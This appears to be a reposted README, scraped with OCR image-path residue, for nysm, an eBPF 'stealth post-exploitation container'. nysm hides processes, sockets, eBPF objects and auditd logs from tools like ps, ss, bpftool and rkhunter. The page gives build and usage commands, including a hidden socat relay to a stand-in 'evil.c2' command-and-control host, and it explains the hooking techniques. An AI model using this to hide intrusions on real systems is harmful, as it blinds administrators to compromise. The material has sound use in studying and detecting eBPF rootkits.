Nysm - A Stealth Post-Exploitation Container

A stealth post-exploitation container.


With the raise in popularity of offensive tools based on eBPF, going from credential stealers to rootkits hiding their own PID, a question came to our mind: Would it be possible to make eBPF invisible in its own eyes? From there, we created nysm, an eBPF stealth container meant to make offensive tools fly under the radar of System Administrators, not only by hiding eBPF, but much more:

  • bpftool
  • bpflist-bpfcc
  • ps
  • top
  • sockstat
  • ss
  • rkhunter
  • chkrootkit
  • lsof
  • auditd
  • etc...

All these tools go blind to what goes through nysm. It hides:

  • New eBPF programs
  • New eBPF maps
  • New eBPF links
  • New Auditd generated logs
  • New PIDs 着
  • New sockets

Warning This tool is a simple demonstration of eBPF capabilities as such. It is not meant to be exhaustive. Nevertheless, pull requests are more than welcome.sudo apt install git make pkg-config libelf-dev clang llvm bpftool -y

Linux headers

cd ./nysm/src/
bpftool btf dump file /sys/kernel/btf/vmlinux format c > vmlinux.h


cd ./nysm/src/


nysm is a simple program to run before the intended command:

Usage: nysm [OPTION...] COMMAND
Stealth eBPF container.

-d, --detach Run COMMAND in background
-r, --rm Self destruct after execution
-v, --verbose Produce verbose output-h, --help Display this help
--usage Display a short usage message


Run a hidden bash:

./nysm bash

Run a hidden ssh and remove ./nysm:

./nysm -r ssh user@domain

Run a hidden socat as a daemon and remove ./nysm:

./nysm -dr socat TCP4-LISTEN:80 TCP4:evil.c2:443

How it works

In general

As eBPF cannot overwrite returned values or kernel addresses, our goal is to find the lowest level call interacting with a userspace address to overwrite its value and hide the desired objects.

To differentiate nysm events from the others, everything runs inside a seperated PID namespace.

Hide eBPF objectsbpftool has some featuresnysm wants to evade: bpftool prog list, bpftool map list and bpftool link list.

As any eBPF program, bpftool uses the bpf() system call, and more specifically with the BPF_PROG_GET_NEXT_ID, BPF_MAP_GET_NEXT_ID and BPF_LINK_GET_NEXT_ID commands. The result of these calls is stored in the userspace address pointed by the attr argument.

To overwrite uattr, a tracepoint is set on the bpf() entry to store the pointed address in a map. Once done, it waits for the bpf() exit tracepoint. When bpf() exists, nysm can read and write through the bpf_attr structure. After each BPF_*_GET_NEXT_ID, bpf_attr.start_idis replaced by bpf_attr.next_id.

In order to hide specific IDs, it checksbpf_attr.next_id and replaces it with the next ID that was not created in nysm.

Program, map, and link IDs are collected from security_bpf_prog(), security_bpf_map(), and bpf_link_prime().

Hide Auditd logs

Auditd receives its logs from recvfrom() which stores its messages in a buffer.

If the message received was generated by a nysm process through audit_log_end(), it replaces the message length in its nlmsghdr header by 0.


Hiding PIDs with eBPF is nothing new. nysm hides new alloc_pid() PIDs from getdents64() in /proc by changing the length of the previous record.

As getdents64() requires to loop through all its files, the eBPF instructions limit is easily reached. Therefore, nysm uses tail calls before reaching it.

Hide sockets

Hiding sockets is a big word. In fact, opened sockets are already hidden from many tools as theycannot find the process in /proc. Nevertheless, ss uses socket() with the NETLINK_SOCK_DIAG flag which returns all the currently opened sockets. After that, ss receives the result through recvmsg() in a message buffer and the returned value is the length of all these messages combined.

Here, the same method as for the PIDs is applied: the length of the previous message is modified to hide nysm sockets.

These are collected from the connect() and bind() calls.


Even with the best effort, nysm still has some limitations.

  • Every tool that does not close their file descriptors will spot nysm processes created while they are open. For example, if ./nysm bash is runningbefore top, the processes will not show up. But, if another process is created from that bash instance while top is still running, the new process will be spotted. The same problem occurs with sockets and tools like nethogs.

  • Kernel logs: dmesg and /var/log/kern.log, the message nysm[<PID>] is installing a program with bpf_probe_write_user helper that may corrupt user memory! will pop several times because ofthe eBPF verifier on nysm run.

  • Many traces written into files are left as hooking read() and write() would be too heavy (but still possible). For example /proc/net/tcp or /sys/kernel/debug/tracing/enabled_functions.

  • Hiding ss recvmsg can be challenging as a new socket can pop at the beginning of the buffer, and nysm cannot hide it with a preceding record (this does not apply to PIDs). A quick fix could be to switch place between the first one and thenext legitimate socket, but what if a socket is in the buffer by itself? Therefore, nysm modifies the first socket information with hardcoded values.

  • Running bpf() with any kind of BPF_*_GET_NEXT_ID flag from a nysm child process should be avoided as it would hide every non-nysm eBPF objects.

Of course, many of these limitations must have their own solutions. Again, pull requests are more than welcome.

Nysm - A Stealth Post-Exploitation Container Nysm - A Stealth Post-Exploitation ContainerReviewed by Zion3R on 8:30 AM Rating: 5